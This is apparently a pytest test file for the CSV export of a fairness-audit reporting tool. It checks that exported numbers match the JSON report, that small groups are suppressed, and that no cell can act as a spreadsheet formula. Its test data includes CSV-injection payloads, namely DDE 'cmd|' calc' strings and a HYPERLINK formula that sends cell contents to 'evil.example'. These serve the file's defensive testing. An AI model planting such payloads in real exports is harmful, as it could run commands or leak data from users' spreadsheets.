"""Measurements, controls and groups as CSV: the numbers of the JSON, and no text that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rai_tune.reporting.csv_cells import LONGEST, as_written, csv_bytes
from rai_tune.reporting.export import report_json
from rai_tune.reporting.tables import CSV_TABLES, controls_csv, groups_csv, measurements_csv
from rai_tune.reporting.text import clean

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    '"=1+1"',
    "'=1+1",
    '" =1+1',
    "\u201c=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "a;=1+1",
    'a;"=1+1"',
    "a; \t+1+1;x",
    "a;;@x",
]  # fmt: skip


def fields(data: bytes, separator: str = ",") -> list[list[str]]:
    """Cells as a spreadsheet cuts them that separates at ``separator``."""
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=separator))


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet might read a cell as a formula: by its first sign, spaces and double quotes skipped."""
    start = cell.strip().lstrip('"\u201c\u201d ').strip()
    try:
        float(start)
    except ValueError:
        return start[:1] != "" and start[0] in SIGNS
    return False


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";"])
def test_no_text_is_a_formula_wherever_the_line_is_cut(text: str, separator: str) -> None:
    data = csv_bytes(["first", "second", text], [[text, "x", 1.5], ["x", text, -1.5]])
    cut = [cell for line in fields(data, separator) for cell in line]
    assert not [cell for cell in cut if dangerous(cell)]
    assert as_written(fields(data)[1][0]) == clean(text)
    assert as_written(fields(data)[2][1]) == clean(text)
    assert as_written(fields(data)[0][2]) == clean(text)


PIECES = st.text(st.sampled_from([*SIGNS, *"'\";, \t\r\n1ae.\u201c\u00a0\u202e"]) | st.characters(), max_size=24)


@given(PIECES, PIECES)
def test_every_text_comes_back_and_none_is_a_formula(first: str, second: str) -> None:
    data = csv_bytes(["a", "b", "n"], [[first, second, -0.5]])
    assert [as_written(cell) for cell in fields(data)[1]] == [clean(first, LONGEST), clean(second, LONGEST), "-0.5"]
    for separator in (",", ";"):
        assert not [cell for line in fields(data, separator) for cell in line if dangerous(cell)]


def test_numbers_stay_numbers_and_texts_are_quoted() -> None:
    data = csv_bytes(["a"], [[-0.25], ["-0.25"], ["-1e-5"], [-3], [None], [True], ["plain"], ['say "x"']])
    assert data == (
        b'"a"\r\n-0.25\r\n"-0.25"\r\n"-1e-5"\r\n-3\r\n""\r\n"true"\r\n"plain"\r\n"say ""x"""\r\n'
    )  # fmt: skip
    assert csv_bytes(["a"], [["-1-1"], ["--1"], ["-1;-1"]]) == b'"a"\r\n"\'-1-1"\r\n"\'--1"\r\n"\'-1;\'-1"\r\n'


def test_what_hides_or_reorders_is_a_visible_code_point_and_long_texts_are_cut() -> None:
    (line,) = fields(csv_bytes(["\u202egnorw\u202c\u0000"], []))
    assert line == ["[U+202E]gnorw[U+202C][U+0000]"]
    ((cell,),) = fields(csv_bytes(["=" + "x" * 100_000], []))
    assert len(cell) == LONGEST + 1
    assert cell.startswith("'=xxx")
    assert cell.endswith("…")


def test_measurements_are_those_of_the_json_to_the_last_digit(make_inputs: Any) -> None:
    inputs = make_inputs()
    data = measurements_csv(inputs)
    head, *lines = fields(data)
    told = report_json(inputs)["measurements"]
    assert data.endswith(b"\r\n")
    assert len(lines) == len(told) > 30
    for line, row in zip(lines, told, strict=True):
        cells = dict(zip(head, line, strict=True))
        assert cells["run"] == inputs.run["id"]
        for name in ("audit", "metric", "attribute", "group", "reference", "split", "status", "reason", "method"):
            assert as_written(cells[name]) == (row[name] or "")
        for name in ("estimate", "low", "high"):
            assert cells[name] == row[name] if isinstance(row[name], str) else float(cells[name]) == row[name]
    for line, row in zip(lines, told, strict=True):
        if row["bounds"]:
            cells = dict(zip(head, line, strict=True))
            assert {item["side"]: item["value"] for item in row["bounds"]} == {
                "lower": float(cells["lower_bound_alpha_0.05"]),
                "upper": float(cells["upper_bound_alpha_0.05"]),
            }
    assert sum(bool(row["bounds"]) for row in told) > 2


def test_groups_have_their_sizes_and_rates_side_by_side(make_inputs: Any, kit: Any) -> None:
    head, *lines = fields(groups_csv(make_inputs()))
    assert [line[1:3] for line in lines] == [[name, group] for name, groups in kit.LENDING.items() for group in groups]
    for line in lines:
        cells = dict(zip(head, line, strict=True))
        rows, approved, (hits, positives), _ = kit.LENDING[cells["attribute"]][cells["group"]]
        if cells["selection_rate_status"] != "suppressed":
            assert int(cells["rows"]) == rows
            assert float(cells["selection_rate"]) == pytest.approx(approved / rows)
            assert float(cells["true_positive_rate"]) == pytest.approx(hits / positives)
            assert int(cells["true_positive_rate_n"]) == positives


def test_a_small_group_is_suppressed_in_every_file(make_inputs: Any) -> None:
    small = (3, 2, (1, 2), (1, 1))
    table = {"race": {"Black": (135, 86, (20, 40), (29, 95)), "white": (817, 752, (10, 60), (55, 757)), "few": small}}
    inputs = make_inputs(table=table)
    head, *lines = fields(groups_csv(inputs))
    (few,) = (dict(zip(head, line, strict=True)) for line in lines if "few" in line)
    words = {value for name, value in few.items() if name not in {"run", "attribute", "group", "split"}}
    assert words <= {"suppressed", "approved", "denied", ""}
    assert few["selection_rate_n"] == "suppressed"
    head, *lines = fields(measurements_csv(inputs))
    found = [dict(zip(head, line, strict=True)) for line in lines]
    hidden = [row for row in found if row["audit"] == "group_rates" and "few" in {row["group"], row["reference"]}]
    assert len(hidden) > 8
    for row in hidden:
        assert {row[name] for name in ("estimate", "low", "high", "n", "status")} == {"suppressed"}
        assert not any(value for name, value in row.items() if name.startswith(("n_", "lower_", "upper_")))


def test_controls_have_thresholds_with_who_set_them(make_inputs: Any) -> None:
    inputs = make_inputs()
    head, *lines = fields(controls_csv(inputs))
    told = report_json(inputs)["controls"]
    assert len(lines) == len(told) > 1
    for line, row in zip(lines, told, strict=True):
        cells = dict(zip(head, line, strict=True))
        assert (cells["id"], cells["outcome"]) == (row["id"], row["outcome"])
        threshold = row["threshold"] or {"value": "", "origin": ""}
        assert cells["threshold_origin"] == threshold["origin"]
        assert cells["threshold_value"] == str(threshold["value"])


@pytest.mark.parametrize("name", sorted(CSV_TABLES))
@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", 'x;"@SUM(A1)', "\t+1-1", "\u202e=1"])
def test_hostile_names_of_groups_and_controls_are_inert(make_inputs: Any, kit: Any, name: str, text: str) -> None:
    table = {text: {text: (135, 86, (20, 40), (29, 95)), "white": (817, 752, (10, 60), (55, 757))}}
    decided = kit.decision((kit.control("X-1", text, "pass", text),), "pass")
    inputs = make_inputs(table=table, decisions=(decided,), run={"id": text})
    for separator in (",", ";"):
        cut = fields(CSV_TABLES[name](inputs), separator)
        assert len(cut) > 1
        assert not [cell for line in cut for cell in line if dangerous(cell)]
